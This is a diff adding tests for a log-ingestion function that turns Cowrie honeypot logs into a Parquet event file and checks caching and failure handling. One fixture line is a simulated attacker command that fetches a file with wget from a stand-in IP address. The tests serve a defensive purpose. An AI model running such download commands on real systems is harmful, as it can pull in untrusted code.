@@ -240,6 +240,44 @@ describe('ingestLogs', () => {
     );
   });
 
+  it('hands the events on while it writes them, and from the cache, the same as the file has them', async () => {
+    const lines = [
+      command(3, 'é\n\u001e\u001f'),
+      command(1, 'x'.repeat(600_000)),
+      command(2, 'wget http://192.0.2.9/a'),
+    ];
+    const log = write('cowrie.json', lines.map((line) => `${line}\n`).join(''));
+    const out = join(own, 'events.parquet');
+    const fields = ['process.command_line', '@timestamp', 'log.line', 'user.name'] as const;
+    for (const cached of [false, true]) {
+      const events: EventFields[] = [];
+      const report = await ingestLogs([log], { out, use: { fields, take: (some) => events.push(...some) } });
+      expect(report.cached).toBe(cached);
+      const read: EventFields[] = [];
+      for await (const batch of readEventFile(out, fields)) read.push(...batch);
+      expect(events).toEqual(read);
+      expect(events.map((event) => event['log.line'])).toEqual([2, 3, 1]);
+      expect(events[2]!['process.command_line']).toBe('é\n\u001e\u001f');
+    }
+  });
+
+  it('writes and keeps the events though who uses them fails, and says why', async () => {
+    const log = write('cowrie.json', [command(1, 'ls'), command(2, 'id')].join('\n'));
+    const out = join(own, 'events.parquet');
+    const failure = new Error('of the use');
+    const use = {
+      fields: ['@timestamp'] as const,
+      take() {
+        throw failure;
+      },
+    };
+    await expect(ingestLogs([log], { out, use })).rejects.toBe(failure);
+    expect(await eventsOf(out)).toHaveLength(2);
+    expect((await ingestLogs([log], { out })).cached).toBe(true);
+    await expect(ingestLogs([log], { out, use })).rejects.toBe(failure);
+    expect(readdirSync(join(own, 'tmp'))).toEqual([]);
+  });
+
   it('stops where the signal says so, and leaves nothing behind', async () => {
     const file = write(
       'a.log',
